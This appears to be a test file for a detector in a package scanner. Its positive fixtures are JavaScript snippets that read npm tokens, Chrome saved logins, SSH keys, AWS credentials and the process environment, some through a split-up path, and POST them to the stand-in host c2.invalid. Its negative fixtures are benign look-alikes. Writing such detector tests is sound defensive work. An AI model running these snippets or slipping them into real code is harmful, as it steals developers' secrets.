import { examine } from '../../../test/examine.ts';
import { sendsCredentials } from './sends-credentials.ts';

examine(sendsCredentials, {
  speaks: [
    {
      when: 'the npm token goes out at import',
      files: {
        'index.js': `const t = require('fs').readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8'); fetch('https://c2.invalid/', { method: 'POST', body: t })`,
      },
      weight: 'proof',
      says: ['npm tokens', 'c2.invalid'],
    },
    {
      when: 'browser logins go out as a form',
      files: {
        'index.js': `const p = require('path').join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Login Data');
          const form = new (require('form-data'))(); form.append('f', require('fs').createReadStream(p)); require('axios').post('https://c2.invalid/', form)`,
      },
      weight: 'proof',
    },
    {
      when: 'SSH keys are taken only when called',
      files: {
        'index.js': `exports.log = () => fetch('https://c2.invalid/', { method: 'POST', body: require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa') })`,
      },
      weight: 'proof',
    },
    {
      when: 'another file of the package sends it',
      files: {
        'index.js': `require('./send').send(require('fs').readFileSync(process.env.HOME + '/.aws/credentials', 'utf8'))`,
        'send.js': `exports.send = text => fetch('https://c2.invalid/', { method: 'POST', body: text })`,
      },
      weight: 'proof',
    },
    {
      when: 'the path is put together and the environment of processes is read',
      files: {
        'index.js': `const b = require('fs').readFileSync('/pr' + 'oc/self/env' + 'iron'); fetch('https://c2.invalid/', { method: 'POST', body: b })`,
      },
      weight: 'proof',
    },
  ],
  silent: [
    {
      when: 'credentials are read and nothing is sent',
      files: { 'index.js': `exports.config = () => require('fs').readFileSync(process.env.HOME + '/.aws/credentials', 'utf8')` },
    },
    {
      when: 'its own files are sent',
      files: {
        'index.js': `fetch('https://api.invalid/', { method: 'POST', body: require('fs').readFileSync(__dirname + '/data.json') })`,
      },
    },
    {
      when: 'comments name such files',
      files: { 'index.js': `// ~/.ssh/id_rsa, /etc/shadow\nfetch('https://api.invalid/', { method: 'POST', body: 'hello' })` },
    },
    {
      when: 'a client of ssh shows the key of its user to the server he names',
      files: {
        'index.js': `const { Client } = require('ssh2'); exports.connect = host => new Client().connect({ host, privateKey: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_ed25519') })`,
      },
    },
  ],
});
